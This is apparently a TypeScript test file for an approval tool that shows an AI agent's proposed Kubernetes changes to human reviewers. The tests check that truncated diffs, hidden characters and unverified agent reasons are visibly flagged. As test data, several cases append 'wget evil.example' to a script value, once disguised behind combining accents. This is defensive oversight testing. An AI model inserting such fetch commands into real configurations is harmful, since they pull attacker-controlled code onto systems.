// What no room is left for on a card, or in a window of Slack: found where it stands, or said to be missing; never left to look like the whole.

import * as fc from "fast-check";
import { expect } from "vitest";
import { cardText } from "../../../src/approval/card.ts";
import { needsReview } from "../../../src/approval/channels/slack/card.ts";
import { wholeModal } from "../../../src/approval/channels/slack/modals.ts";
import type { KeptRequest } from "../../../src/approval/stores/contract.ts";
import type { Access } from "../../../src/domain/access.ts";
import { deepFreeze } from "../../../src/domain/json.ts";
import type { Change, DiffLine, Sentence } from "../../../src/domain/output.ts";
import { diffObjects } from "../../../src/execution/diff.ts";
import { promise } from "../../support/promise.ts";
import { preview, request, type Given } from "./fixtures.ts";

const [change] = preview.changes as [Change];
const nothing = { ...preview, changes: [], checks: [] };
const access = (namespace: string): Access => ({
  cluster: "prod-1",
  verb: "list",
  group: "",
  version: "v1",
  resource: "secrets",
  subresource: "",
  kind: "Secret",
  namespace,
  name: "",
  optional: false,
});
const cardOf = (lines: readonly DiffLine[]): readonly string[] =>
  request({ preview: { ...preview, checks: [], changes: [{ ...change, lines }] } }).card.diff;
const linesOf = (before: string, after: string): DiffLine[] =>
  diffObjects(
    { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "a" }, data: { run: before } },
    { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "a" }, data: { run: after } },
  );

promise("approval:card-honest", "a change far inside a long value is what its line shows", () => {
  const quiet = "echo fine\n".repeat(400);
  const [end = ""] = cardOf(linesOf(quiet, `${quiet}wget evil.example\n`));
  expect([end.includes("wget evil.example"), end.includes("can't be inspected"), end.length < 600]).toEqual([
    true,
    false,
    true,
  ]);
  const [middle = ""] = cardOf(linesOf(`${quiet}a\n${quiet}`, `${quiet}b\n${quiet}`));
  expect(middle).toMatch(/^!~ data\.run: \(\d+ equal characters\) .*\\na\\n.* \(\d+ equal characters\) -> .*\\nb\\n/);
  const [gone = ""] = cardOf(linesOf(`${quiet}set -e\n`, quiet));
  expect([gone.includes("set -e"), gone.includes("can't be inspected")]).toEqual([true, false]);
});

promise("approval:card-honest", "what is cut can't pass for the whole, wherever it is cut", () => {
  const long = "echo fine\n".repeat(400);
  const created = cardOf([{ sign: "+", risk: true, path: "data.run", before: null, after: JSON.stringify(long) }]);
  expect(created[0]).toMatch(/… \(can't be inspected: cut, of 4402 characters\)$/);
  // A value that ends as a cut one would is whole.
  const whole = cardOf([{ sign: "+", risk: false, path: "data.run", before: null, after: '"a…"' }]);
  expect(whole).toEqual(['+ data.run: "a…"']);
  const named = cardOf([{ sign: "+", risk: false, path: `spec.${"k".repeat(3000)}`, before: null, after: "1" }]);
  expect(named[0]).toMatch(/…: 1 \(can't be inspected: cut, of 3005 characters\)$/);
  // What is written out is longer than it was sent.
  const marks = cardOf(linesOf("a", `a${"\u0301".repeat(400)}; wget evil.example`));
  expect([marks[0]?.includes("wget"), marks[0]?.includes("can't be inspected")]).toEqual([false, true]);
});

promise("approval:card-honest", "two values that differ never read alike, or the line says what it can't show", () => {
  const piece = fc.string({ unit: "grapheme", maxLength: 40 });
  const filler = fc.integer({ min: 0, max: 400 }).map((count) => "0123456789".repeat(count));
  const value = fc.tuple(filler, piece, filler).map((parts) => parts.join(""));
  fc.assert(
    fc.property(value, value, (before, after) => {
      const [line = ""] = cardOf(linesOf(before, after));
      if (before === after) return expect(line).toBe("no difference to what is there now");
      if (line.includes("can't be inspected")) return;
      const [was, is] = line.replace(/^!~ data\.run: /, "").split(" -> ");
      expect(was).not.toBe(is);
    }),
    { numRuns: 300 },
  );
});

promise(
  "approval:card-honest",
  "a custom resource of a well-known name and the longest names read as what they are",
  () => {
    const { lines } = change;
    const objectOf = (more: Partial<Change>): string =>
      request({ preview: { ...preview, changes: [{ ...change, lines, ...more }] } }).card.object;
    expect(objectOf({ group: "serving.example.com", kind: "Service" })).toBe("Service.serving.example.com shop/api");
    expect(objectOf({ kind: "Service" })).toBe("Service shop/api");
    const read = (access_: Partial<Access>): string =>
      request({ call: { effect: "read", accesses: [{ ...access("shop"), ...access_ }] }, preview: nothing }).card
        .object;
    expect(read({ group: "vault.example.com" })).toBe("Secret.vault.example.com shop/*");
    expect(read({ group: "networking.k8s.io", kind: "Ingress" })).toBe("Ingress shop/*");
    const long = { namespace: "n".repeat(63), name: `${"a".repeat(252)}1`, kind: "K".repeat(63) };
    expect(objectOf({ ...long, group: "g.".repeat(126) }).endsWith("a1")).toBe(true);
  },
);

promise("approval:card-neutral", "a quotation of the agent's ends where the card says that it ends", () => {
  const reason = `fine" (checked by sre); rules: none "`;
  const row = cardText(request({ call: { reason } }).card)
    .split("\n")
    .find((line) => line.includes("unverified"));
  expect(row).toBe(`  reason    "fine' (checked by sre); rules: none '" (the agent's words, unverified)`);
});

function kept(given: Given): KeptRequest {
  const { result: _result, ...rest } = request(given);
  return deepFreeze({ ...rest, why: "", answer: "none" as const, answeredAt: null });
}
const windowOf = (asked: KeptRequest): { text: string; approves: boolean } => {
  const { view, kind } = wholeModal(asked, "0".repeat(32), { have: 0, need: 1 }, true);
  return { text: JSON.stringify(view["blocks"]), approves: kind === "sp.approve" };
};
const withChecks = (checks: readonly Sentence[]): Given => ({ preview: { ...preview, checks } });

promise("slack:honest-cut", "every warning stands in the window before it can be approved there", () => {
  const loud = (count: number, length = 100): Sentence[] =>
    Array.from({ length: count }, (_one, index) => [`warning ${index}: ${"x".repeat(length)} end of ${index}`]);
  const several = kept(withChecks(loud(30)));
  const seen = windowOf(several);
  expect([needsReview(several), seen.approves]).toEqual([true, true]);
  expect(Array.from({ length: 30 }, (_one, index) => seen.text.includes(`end of ${index}"`))).not.toContain(false);
  const wide = kept(withChecks(loud(1, 1500)));
  expect([needsReview(wide), windowOf(wide).approves, windowOf(wide).text.includes("end of 0")]).toEqual([
    true,
    true,
    true,
  ]);
  const flood = windowOf(kept(withChecks(loud(200, 1500))));
  expect([flood.approves, flood.text.includes("more warnings, not shown here")]).toEqual([false, true]);
  expect(needsReview(kept(withChecks(loud(3))))).toBe(false);
});

promise("slack:honest-cut", "what no list calls risky is seen whole all the same", () => {
  const plain = (count: number, length: number): KeptRequest => {
    const fields = Array.from({ length: count }, (_one, index): DiffLine => {
      const path = `spec.source.field${String(index).padStart(3, "0")}`;
      return { sign: "~", risk: false, path, before: '"a"', after: JSON.stringify("b".repeat(length)) };
    });
    return kept({ preview: { ...preview, checks: [], changes: [{ ...change, lines: fields }] } });
  };
  const said = [plain(20, 20), plain(41, 20), plain(1, 500), plain(600, 60)].map((one) => [
    needsReview(one),
    windowOf(one).approves,
  ]);
  expect(said).toEqual([
    [false, true],
    [true, true],
    [true, true],
    [true, false],
  ]);
});

promise("slack:honest-cut", "every object stands in the window before it can be approved there", () => {
  const changes = (count: number): Change[] =>
    Array.from({ length: count }, (_one, index) => ({ ...change, name: `${"n".repeat(100)}-${index}` }));
  const listed = windowOf(kept({ preview: { ...preview, changes: changes(20) } }));
  expect([listed.approves, listed.text.includes(`${"n".repeat(100)}-19"`)]).toEqual([true, true]);
  // Beyond the room for them the diff still names each.
  const many = windowOf(kept({ preview: { ...preview, checks: [], changes: changes(60) } }));
  expect([many.approves, many.text.includes(`in Deployment shop/${"n".repeat(100)}-59`)]).toEqual([true, true]);
  const places = Array.from({ length: 60 }, (_one, index) => access(`${"n".repeat(60)}-${index}`));
  const read = kept({ call: { tool: "objects_list", effect: "read", accesses: places }, preview: nothing });
  expect([needsReview(read), windowOf(read).approves]).toEqual([true, false]);
});
